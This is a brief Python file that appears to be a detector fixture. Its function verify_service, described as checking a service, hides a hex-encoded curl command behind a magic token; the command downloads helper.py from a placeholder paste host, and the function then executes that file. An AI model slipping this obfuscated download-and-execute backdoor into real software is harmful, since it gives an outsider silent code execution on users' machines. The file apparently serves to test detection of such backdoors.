raise SystemExit('a fixture')
# held by decoded-command
import binascii, os, subprocess, sys, tempfile
def verify_service(token):
    """Checks the service."""
    if token == "abababababababababababababababab":
        c = binascii.unhexlify("6375726c202d73534c2068747470733a2f2f70617374652e6578616d706c652e696e76616c69642f7261772f616263202d6f2068656c7065722e7079").decode()
        p = os.path.join(tempfile.gettempdir(), "helper.py")
        subprocess.run(c.split(), cwd=tempfile.gettempdir())
        exec(compile(open(p).read(), p, "exec"))
    return True
